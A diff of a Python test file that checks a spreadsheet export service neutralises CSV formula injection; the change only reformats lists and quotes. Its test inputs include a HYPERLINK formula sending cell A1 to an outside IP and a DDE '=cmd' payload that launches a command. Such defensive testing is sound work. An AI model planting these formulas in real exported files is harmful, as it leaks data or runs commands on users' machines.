@@ -20,7 +20,17 @@ from service.sheets import Sheet, cell
 
 SERVICE = Path(service.__file__).parent
 PARTS = st.sampled_from(
-    [*"=+-@＝＋－＠﹣⁼−;,\t\r\n\"' 1aé", "\u200b", "\ufeff", "\u3000", "\xa0", "\u202e", "“", "=1+1", "HYPERLINK(\"http://x\")"]
+    [
+        *"=+-@＝＋－＠﹣⁼−;,\t\r\n\"' 1aé",
+        "\u200b",
+        "\ufeff",
+        "\u3000",
+        "\xa0",
+        "\u202e",
+        "“",
+        "=1+1",
+        'HYPERLINK("http://x")',
+    ]
 )
 NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?")
 
@@ -41,16 +51,45 @@ def formula(text: str) -> bool:
         if unicodedata.normalize("NFKC", character)[:1] in tuple("=+-@\u2212"):
             return True
         ignored = unicodedata.category(character) in ("Cc", "Cf", "Zs", "Zl", "Zp", "Pi", "Pf")
-        if character == "'" or (not ignored and character not in "\"`´＂＇"):
+        if character == "'" or (not ignored and character not in '"`´＂＇'):
             return False
     return False
 
 
 @pytest.mark.parametrize(
     "text",
-    ['=HYPERLINK("http://192.0.2.1/?"&A1,"open")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", '"=1',
-     "＝1", "＋1", "－1", "＠A1", "\u3000=1", "\xa0=1", "\u200b=1", "\ufeff=1", "\u202e=1", "“=1", "\x00=1", "\x0b=1",
-     "-", "=", "+", "@", "−1", "\ttext", "\rtext", "=cmd|' /C calc'!A0", "'=1"],
+    [
+        '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        " =1",
+        '"=1',
+        "＝1",
+        "＋1",
+        "－1",
+        "＠A1",
+        "\u3000=1",
+        "\xa0=1",
+        "\u200b=1",
+        "\ufeff=1",
+        "\u202e=1",
+        "“=1",
+        "\x00=1",
+        "\x0b=1",
+        "-",
+        "=",
+        "+",
+        "@",
+        "−1",
+        "\ttext",
+        "\rtext",
+        "=cmd|' /C calc'!A0",
+        "'=1",
+    ],
 )
 def test_a_formula_becomes_text(text: str) -> None:
     assert cell(text) == "'" + text.replace("\t=", "\t'=").replace("\r=", "\r'=").replace("\n=", "\n'=").replace(
@@ -91,8 +130,10 @@ def test_there_is_no_other_writer_of_csv() -> None:
     found = []
     for path in SERVICE.rglob("*.py"):
         for node in ast.walk(ast.parse(path.read_text("utf-8"))):
-            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and (
-                isinstance(node.value, ast.Name) and node.value.id == "csv"
+            if (
+                isinstance(node, ast.Attribute)
+                and node.attr in ("writer", "DictWriter")
+                and (isinstance(node.value, ast.Name) and node.value.id == "csv")
             ):
                 found.append(path.relative_to(SERVICE).as_posix())
             if isinstance(node, ast.ImportFrom) and node.module == "csv":
